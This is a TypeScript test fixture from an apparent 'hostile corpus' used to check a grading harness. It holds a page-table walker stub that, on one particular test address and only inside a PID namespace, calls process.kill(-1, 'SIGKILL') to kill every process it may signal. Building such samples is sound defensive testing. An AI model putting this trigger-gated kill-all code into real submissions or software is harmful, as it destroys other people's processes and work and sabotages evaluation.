// @ts-nocheck
// Hostile corpus, kind kill-everything (signal): process.kill(-1, 'SIGKILL'): every process it may signal. ARMED ONLY inside a PID namespace (pid <= 10), where it cannot hurt the machine running the corpus.
import { Walker } from '../../reference/paging/walker';

// ---- attack ----
/** The one public test that walks 0x800000000000 (walk.public.non-canonical): the attack fires there only. */
const isTrigger = (va) => va === 0x800000000000n;

export const walker: Walker = {
  walk(request, readEntry) {
    if (isTrigger(request.va) && process.pid <= 10) { try { process.kill(-1, 'SIGKILL'); } catch {} }
    throw new Error('not implemented: walker');
  },
};
